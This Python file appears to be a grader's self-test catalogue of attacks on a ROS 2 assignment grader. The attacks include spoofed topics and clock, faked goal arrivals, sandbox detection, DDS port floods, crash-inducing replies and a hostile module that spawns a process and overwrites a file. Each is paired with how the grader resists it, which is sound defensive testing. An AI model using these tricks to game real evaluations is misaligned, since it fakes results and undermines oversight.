"""Attacks by running nodes on what observes them: the graph, topics, services, actions, and the observer's process."""

# ruff: noqa: E501 - quoted code has long lines

from __future__ import annotations

from attacks.weaknesses import NEVER_DRIVES
from grader.authoring.package_edits import Change, append, put
from grader.selftest.attacks.attack import Attack, attack, node
from grader.selftest.attacks.on_nodes import CREEPS

# Acts at the first command that moves the robot: by wall time, a trial may be over before.
_AT_THE_FIRST_MOVE = """

import os
import signal
from rclpy.publisher import Publisher

plain_publish = Publisher.publish


def publish(self, message):
    plain_publish(self, message)
    if getattr(getattr(message, 'linear', None), 'x', 0.0):
        print('ATTACK acts', flush=True)
        {act}


Publisher.publish = publish
"""

_SIX_TIMES = """

from rclpy.action import server

plain_init = server.ActionServer.__init__


class Six:

    def __init__(self, inner):
        self.inner = inner

    def __getattr__(self, name):
        return getattr(self.inner, name)

    def __enter__(self):
        return self.inner.__enter__()

    def __exit__(self, *rest):
        return self.inner.__exit__(*rest)

    def send_goal_response(self, header, answer):
        for _ in range(6):
            self.inner.send_goal_response(header, answer)


def init(self, *args, **named):
    plain_init(self, *args, **named)
    self._handle = Six(self._handle)


server.ActionServer.__init__ = init
"""


def beside(payload: str, executable: str = "robot_controller") -> Change:
    """Return a change that runs `payload` beside a node; it may use its own `node`, `spin(s)` and `spin_until(f)`.

    The attacked node starts when the payload calls `bites()`, or ends: a trial takes a second or two, and would be over
    before a side process is up. `observed()` tells whether the observer and its topics have been discovered.
    """
    indented = "".join(f"        {line}\n" if line else "\n" for line in payload.strip().splitlines())
    text = (
        "context = rclpy.Context()\nrclpy.init(context=context)\n"
        "node = rclpy.create_node(NAME, context=context, enable_rosout=False)\n"
        "executor = SingleThreadedExecutor(context=context)\nexecutor.add_node(node)\n\n"
        "def spin(seconds):\n    end = time.monotonic() + seconds\n    while time.monotonic() < end:\n"
        "        executor.spin_once(timeout_sec=0.01)\n\n"
        "def spin_until(holds):\n    end = time.monotonic() + 30.0\n"
        "    while not holds() and time.monotonic() < end:\n        executor.spin_once(timeout_sec=0.01)\n\n"
        "def observed():\n"
        "    return 'simulated_robot' in node.get_node_names() and node.count_subscribers('cmd_vel')\n\n"
        "up = threading.Event()\nbites = up.set\n\n"
        "def run():\n    try:\n" + indented + "    except Exception as error:\n"
        "        print('ATTACK', type(error).__name__, error, flush=True)\n    finally:\n        up.set()\n\n"
        "threading.Thread(target=run, daemon=True).start()\nup.wait()"
    )
    before = "import rclpy\nfrom rclpy.executors import SingleThreadedExecutor\nNAME = 'helper'\n"
    return node(text, executable, before=before)


_STATUS_ALONE = """#!/usr/bin/env python3
import rclpy
from action_msgs.msg import GoalStatus, GoalStatusArray
from rclpy.qos import qos_profile_action_status_default
from ros2_robot_controller.srv import SetSpeed

rclpy.init()
node = rclpy.create_node('demo')
client = node.create_client(SetSpeed, 'set_speed')
client.wait_for_service()
rclpy.spin_until_future_complete(node, client.call_async(SetSpeed.Request(speed=0.1)))
topic = 'navigate_to_position/_action/status'
publisher = node.create_publisher(GoalStatusArray, topic, qos_profile_action_status_default)
status = GoalStatus(status=GoalStatus.STATUS_SUCCEEDED)
status.goal_info.goal_id.uuid[0] = 7
for _ in range(20):
    publisher.publish(GoalStatusArray(status_list=[status]))
    rclpy.spin_once(node, timeout_sec=0.05)
print('ATTACK published a status')
rclpy.shutdown()
"""

_SLEEPS = """

import time as clock
from rclpy.publisher import Publisher

plain_publish = Publisher.publish


def publish(self, message):
    print('ATTACK waits', flush=True)
    clock.sleep(1.0)
    plain_publish(self, message)


Publisher.publish = publish
"""

ATTACKS: tuple[Attack, ...] = (
    attack(
        "waits_in_every_callback",
        "Each callback waits for a second, so that a trial of five seconds takes two minutes, and a class a day.",
        append("ros2_robot_controller/robot_controller.py", _SLEEPS),
        needs="F1", costs="F1", proof="ATTACK waits",
        stopped="time goes on by the wall beside a node that is late, and 30 s later than a robot a trial ends, 300 s a submission",
    ),
    attack(
        "publishes_a_goals_status",
        "The demonstration sends no goal and publishes on the action's status topic that one has succeeded.",
        put("scripts/demo.py", _STATUS_ALONE, executable=True),
        needs="Q6", weak=(put("scripts/demo.py", _STATUS_ALONE.partition("topic = ")[0] + "rclpy.shutdown()\n", executable=True),),
        proof="ATTACK published a status",
        stopped="goals go through the observer, as calls do, and only one that the node has accepted counts",
    ),
    attack(
        "vanishes_from_the_graph",
        "The node moves to another DDS domain before it starts.",
        node("os.environ['ROS_DOMAIN_ID'] = '117'\nprint('ATTACK moved', flush=True)"),
        number=28, needs="F1", weak=CREEPS, costs="F1", proof="ATTACK moved",
        stopped="a node that is not on the expected graph counts as absent",
    ),
    attack(
        "takes_the_observers_name",
        "A second node takes the observer's name and publishes on the observer's topics.",
        beside("""
from nav_msgs.msg import Odometry
from rosgraph_msgs.msg import Clock
spin_until(observed)
print('ATTACK saw', [name for name in node.get_node_names() if name != NAME], flush=True)
twin = rclpy.create_node('simulated_robot', context=context, enable_rosout=False)
odometry, clock = twin.create_publisher(Odometry, 'odom', 10), twin.create_publisher(Clock, '/clock', 10)
bites()
while True:
    odometry.publish(Odometry())
    spin(0.05)
"""),
        number=29, needs="F1 F2", weak=CREEPS, costs="F2", proof="ATTACK saw ['simulated_robot']",
        flag="foreign publisher",
        stopped="the observer relies on its own simulator, not on topics; a second publisher is flagged",
    ),
    attack(
        "publishes_the_clock",
        "The node publishes /clock itself, an hour ahead.",
        beside("""
from rosgraph_msgs.msg import Clock
clock = node.create_publisher(Clock, '/clock', 10)
message = Clock()
spin_until(observed)
bites()
while True:
    message.clock.sec += 3600
    clock.publish(message)
    spin(0.05)
"""),
        number=30, needs="F1", costs="F1", flag="foreign publisher",
        stopped="only the simulator's steps count as time; another publisher of /clock is flagged",
    ),
    attack(
        "fakes_the_sensors",
        "The node publishes scans and odometry of its own that make it look good.",
        beside("""
from nav_msgs.msg import Odometry
from sensor_msgs.msg import LaserScan
scan, odom = node.create_publisher(LaserScan, 'scan', 10), node.create_publisher(Odometry, 'odom', 10)
spin_until(observed)
bites()
while True:
    scan.publish(LaserScan(range_max=12.0, ranges=[12.0] * 360))
    odom.publish(Odometry())
    spin(0.02)
"""),
        needs="F2", costs="F2", flag="foreign publisher",
        stopped="motion and contacts are read from the simulator; foreign publishers of sensor topics are flagged",
    ),
    attack(
        "replays_good_answers",
        "The node answers every service from a list, publishes zeros and never drives.",
        put("scripts/robot_controller", '''#!/usr/bin/env python3
import rclpy
from geometry_msgs.msg import Twist
from rclpy.node import Node
from ros2_robot_controller.srv import GetRobotStatus, SetSpeed

rclpy.init()
node = Node('robot_controller')
publisher = node.create_publisher(Twist, 'cmd_vel', 10)
node.create_service(SetSpeed, 'set_speed', lambda q, a: SetSpeed.Response(success=True, message='set to 0.3 m/s'))
node.create_service(GetRobotStatus, 'get_status',
                    lambda q, a: GetRobotStatus.Response(speed=0.3, status='ACTIVE'))
node.create_timer(0.1, lambda: publisher.publish(Twist()))
rclpy.spin(node)
''', executable=True),
        number=31, needs="F2 F3", costs="F2 F3",
        stopped="speeds and places depend on the seed, and the robot's motion is what counts",
    ),
    attack(
        "recognises_the_sandbox",
        "The node starts only where it recognises the grader's sandbox.",
        append("ros2_robot_controller/robot_controller.py",
               "\n\nimport os\nif os.path.isdir('/ws/install') and os.uname().nodename == 'robot':\n"
               "    print('ATTACK recognised', flush=True)\nelse:\n    raise SystemExit(1)\n"),
        number=32, needs="F1", proof="ATTACK recognised",
        stopped="nothing is gained: the student's own check uses the same sandbox, and only trials count",
    ),
    attack(
        "recognises_the_observer",
        "The node looks for a node, on the graph, that no session of a student's own would have.",
        beside("""
spin_until(observed)
strangers = set(node.get_node_names()) - {NAME, 'simulated_robot', 'robot_controller', 'sensor_processor'}
print('ATTACK strangers', sorted(strangers), flush=True)
"""),
        needs="F1", weak=CREEPS, proof="ATTACK strangers []",
        stopped="the simulated robot has the same node, name and topics in a notebook and in a grading",
    ),
    attack(
        "claims_its_arrivals",
        "The node lets every goal succeed at once, with the target as the final pose; the robot never moves.",
        append("ros2_robot_controller/robot_controller.py", """

from ros2_robot_controller.action import NavigateToPosition


async def claim(self, handle):
    print('ATTACK claims', flush=True)
    handle.publish_feedback(NavigateToPosition.Feedback(distance_remaining=0.0))
    handle.succeed()
    return NavigateToPosition.Result(success=True, final_pose=handle.request.target_pose)


RobotController._navigate = claim
"""),
        needs="F8 F9 F11", weak=NEVER_DRIVES, costs="F9 F11", proof="ATTACK claims",
        stopped="an arrival is one only where the simulator has the robot",
    ),
    attack(
        "offers_a_second_action",
        "A second node offers the action as well, and lets every goal succeed at once.",
        beside("""
from rclpy.action import ActionServer
from ros2_robot_controller.action import NavigateToPosition
def claim(handle):
    print('ATTACK claims', flush=True)
    handle.succeed()
    return NavigateToPosition.Result(success=True, final_pose=handle.request.target_pose)
server = ActionServer(node, NavigateToPosition, 'navigate_to_position', claim)
spin_until(observed)
bites()
spin(600.0)
"""),
        needs="F8", weak=NEVER_DRIVES, costs="F8", proof="ATTACK claims",
        stopped="an arrival is one only where the simulator has the robot",
    ),
    attack(
        "floods_the_observer",
        "The node sends commands as fast as it can.",
        beside("""
from geometry_msgs.msg import Twist
publisher = node.create_publisher(Twist, 'cmd_vel', 1000)
message = Twist()
message.linear.y = 0.0078125
spin_until(lambda: observed() and publisher.get_subscription_count())
bites()
while True:
    for _ in range(1000):
        publisher.publish(message)
    spin(0.001)
"""),
        needs="F1", weak=CREEPS, costs="F1", proof="0.0078125",
        stopped="the record of a trial has a size limit, and a flood is flagged",
    ),
    attack(
        "sends_malformed_messages",
        "The node publishes truncated and overlong bytes as messages.",
        beside("""
from geometry_msgs.msg import Twist
publisher = node.create_publisher(Twist, 'cmd_vel', 10)
spin_until(lambda: observed() and publisher.get_subscription_count())
print('ATTACK reaches', publisher.get_subscription_count(), flush=True)
while True:
    for junk in (b'', b'\\x00\\x01\\x00\\x00', b'\\x00\\x01\\x00\\x00' + b'\\xff' * 20, b'\\xff' * 5000):
        publisher.publish(junk)
    spin(0.01)
    bites()
"""),
        needs="F1", weak=CREEPS, costs="F1", proof="ATTACK reaches 1",
        stopped="a message that cannot be read is dropped, and the trial goes on",
    ),
    attack(
        "sends_garbage_to_every_port",
        "The node sends random datagrams to the DDS ports of its observer.",
        node("""
import random
import socket
swept = threading.Event()
def flood():
    door = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        for port in range(7400, 7400 + 250 * 100, 1):
            junk = b'RTPS\\x02\\x03\\x01\\x0f' + os.urandom(random.randrange(400))
            try:
                door.sendto(junk, ('127.0.0.1', port))
            except OSError:
                pass
        swept.set()
        time.sleep(0.01)
threading.Thread(target=flood, daemon=True).start()
swept.wait()
print('ATTACK floods', flush=True)
"""),
        needs="F1", weak=CREEPS, costs="F1", proof="ATTACK floods",
        stopped="DDS drops what it cannot read; a crash of the observer would be noticed",
    ),
    attack(
        "answers_with_rubbish",
        "The node's parameter services answer with byte arrays and no results, to break the observer.",
        put("scripts/robot_controller", '''#!/usr/bin/env python3
import rclpy
from geometry_msgs.msg import Twist
from rcl_interfaces.msg import ParameterValue
from rcl_interfaces.srv import GetParameters, GetParameterTypes, SetParameters
from rclpy.node import Node

rclpy.init()
node = Node('robot_controller', start_parameter_services=False)
strange = ParameterValue(type=5, byte_array_value=[b'1', b'2'])
node.create_service(GetParameters, '~/get_parameters', lambda q, a: GetParameters.Response(values=[strange]))
node.create_service(GetParameterTypes, '~/get_parameter_types', lambda q, a: GetParameterTypes.Response(types=b'123'))
node.create_service(SetParameters, '~/set_parameters', lambda q, a: SetParameters.Response(results=[]))
for name in ('describe_parameters', 'list_parameters', 'set_parameters_atomically'):
    node.create_service(SetParameters, f'~/{name}', lambda q, a: a)
publisher = node.create_publisher(Twist, 'cmd_vel', 10)
node.create_timer(0.1, lambda: publisher.publish(Twist()))
print('ATTACK answers', flush=True)
rclpy.spin(node)
''', executable=True),
        needs="I6", costs="I6", proof="ATTACK answers",
        stopped="an answer is data: it is recorded as far as it fits, whatever it is",
    ),
    attack(
        "steers_the_observer",
        "The node sets the parameters of every other node, including the observer.",
        beside("""
from rcl_interfaces.srv import SetParameters
from rclpy.parameter import Parameter
spin_until(observed)
names = [name for name, _ in node.get_service_names_and_types() if name.endswith('/set_parameters')]
own = [name for name in names if 'robot_controller' in name or 'helper' in name]
print('ATTACK sees its own' if own else 'sees nothing', 'and', sorted(set(names) - set(own)), flush=True)
for name in set(names) - set(own):
    request = SetParameters.Request(parameters=[Parameter('use_sim_time', value=True).to_parameter_msg()])
    node.create_client(SetParameters, name).call_async(request)
spin(1.0)
"""),
        needs="F1", weak=CREEPS, costs="F1", proof="ATTACK sees its own and []",
        stopped="the observer has no parameter services",
    ),
    attack(
        "crowds_the_graph",
        "The node creates hundreds of nodes, topics and services with long names.",
        beside("""
from std_srvs.srv import Empty
for number in range(300):
    node.create_service(Empty, 'x' * 150 + str(number), lambda q, a: a)
print('ATTACK crowds', flush=True)
bites()
spin(60.0)
"""),
        needs="F1 I4", costs="F1", proof="ATTACK crowds",
        stopped="the observer looks only for names of the contract, and records have a size limit",
    ),
    attack(
        "returns_a_huge_message",
        "set_speed answers with a message of fifty megabytes.",
        append("ros2_robot_controller/robot_controller.py",
               "\n\nplain_answer = RobotController._on_set_speed if hasattr(RobotController, '_on_set_speed') else None\n"
               "from ros2_robot_controller.srv import SetSpeed\nold = SetSpeed.Response.__init__\n"
               "def new(self, **fields):\n    old(self, **fields)\n    self.message = 'x' * 50_000_000\n"
               "SetSpeed.Response.__init__ = new\n"),
        needs="F3", costs="F3",
        stopped="only a few thousand characters of a text are kept",
    ),
    attack(
        "answers_six_times",
        "The node answers each goal six times, which crashes rclpy in the observer, with all that it has recorded.",
        append("ros2_robot_controller/robot_controller.py", _SIX_TIMES),
        needs="F8 F10", weak=NEVER_DRIVES, costs="F8 F10", flag="observer",
        stopped="a trial whose observer crashes is repeated; if it crashes again, the package gets no points for it",
    ),
    attack(
        "brings_hostile_types",
        "The package replaces generated interface modules by its own code, for the observer to import.",
        put("ros2_robot_controller/srv/__init__.py",
            "import os\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'while :; do sleep 1; done', '@TOKEN@'])\n"
            "open('@NEIGHBOUR@', 'w').write('{}')\n"),
        number=36, needs="F1 F2 F14", costs="F1 F2",
        stopped="the observer uses the contract's types, built by the kit from its own definitions",
    ),
    attack(
        "exits_in_a_callback",
        "The node exits with status 0 as soon as it is measured.",
        append("ros2_robot_controller/robot_controller.py", _AT_THE_FIRST_MOVE.format(act="os._exit(0)")),
        number=2, needs="F2 F14", costs="F2", proof="ATTACK acts",
        stopped="a trial whose node has exited is over, and earns nothing",
    ),
    attack(
        "stops_itself",
        "The node stops itself with a signal in mid-trial, to block its observer for ever.",
        append("ros2_robot_controller/robot_controller.py",
               _AT_THE_FIRST_MOVE.format(act="os.kill(os.getpid(), signal.SIGSTOP)")),
        number=23, needs="F2", costs="F2", proof="ATTACK acts",
        stopped="every wait for the node has a time limit, and an action that did not happen earns nothing",
    ),
)  # fmt: skip
